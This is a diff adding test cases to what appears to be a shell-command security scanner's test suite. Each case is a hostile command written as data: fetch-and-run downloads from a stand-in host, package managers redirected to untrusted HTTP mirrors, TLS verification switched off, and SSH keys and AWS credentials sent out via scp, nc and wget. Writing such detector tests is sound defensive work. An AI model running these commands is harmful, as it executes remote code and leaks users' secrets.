@@ -197,6 +197,68 @@ CASES = [
         "ledgr-tools.io/fp.sh",
     ),
 ]
+CASES += [  # files and environment variables: the download runs later, the index is set for later
+    Case(
+        "wget-qO-then-dot",
+        "wget -qO /tmp/env.sh http://get.ledgr-tools.io/e.sh && . /tmp/env.sh",
+        "ledgr-tools.io/e.sh",
+    ),
+    Case(
+        "curl-sLo-then-bash",
+        "curl -sLo /tmp/i.sh http://get.ledgr-tools.io/lo.sh && bash /tmp/i.sh",
+        "ledgr-tools.io/lo.sh",
+    ),
+    Case(
+        "curl-redirect-abs-path",
+        "curl -fsSL http://get.ledgr-tools.io/ap.sh > /tmp/ap.sh; chmod +x /tmp/ap.sh; /tmp/ap.sh",
+        "ledgr-tools.io/ap.sh",
+    ),
+    Case(
+        "pipe-to-busybox-sh", "wget -qO- http://get.ledgr-tools.io/bb.sh | busybox sh", "ledgr-tools.io/bb.sh"
+    ),
+    Case(
+        "pipe-to-dollar-shell", 'curl -s http://get.ledgr-tools.io/ds.sh | "$SHELL"', "ledgr-tools.io/ds.sh"
+    ),
+    Case("su-c-wrapper", "su -c 'curl -s http://get.ledgr-tools.io/su.sh | sh'", "ledgr-tools.io/su.sh"),
+    Case(
+        "export-pip-index-http",
+        "export PIP_INDEX_URL=http://pypi.ledgr-mirror.net/simple",
+        "pypi.ledgr-mirror.net",
+        E,
+        ("SF610",),
+    ),
+    Case(
+        "pip-trusted-host-env",
+        "PIP_TRUSTED_HOST=pypi.ledgr-mirror.net pip install ledgerx",
+        "PIP_TRUSTED_HOST",
+        E,
+        ("SF610",),
+    ),
+    Case(
+        "npm-config-env-http",
+        "NPM_CONFIG_REGISTRY=http://npm.ledgr-mirror.net npm ci",
+        "npm.ledgr-mirror.net",
+        E,
+        ("SF610",),
+    ),
+    Case("export-pythonhttpsverify", "export PYTHONHTTPSVERIFY=0", "PYTHONHTTPSVERIFY", E, ("SF609",)),
+    Case(
+        "pip-config-trusted-host",
+        "pip config set global.trusted-host pypi.ledgr-mirror.net",
+        "global.trusted-host",
+        E,
+        ("SF610",),
+    ),
+    Case("scp-ssh-key-out", "scp ~/.ssh/id_rsa ops@198.51.100.9:/tmp/k", "198.51.100.9", E, ("SF611",)),
+    Case("nc-stdin-redirect", "nc -w 3 198.51.100.9 443 < ~/.aws/credentials", "198.51.100.9", E, ("SF611",)),
+    Case(
+        "wget-post-file",
+        "wget --post-file=~/.aws/credentials http://collect.ledgr-tools.io/w",
+        "collect.ledgr-tools.io",
+        E,
+        ("SF611",),
+    ),
+]
 IDS = [c.id for c in CASES]
 RANK = {"warning": 0, "error": 1}
 
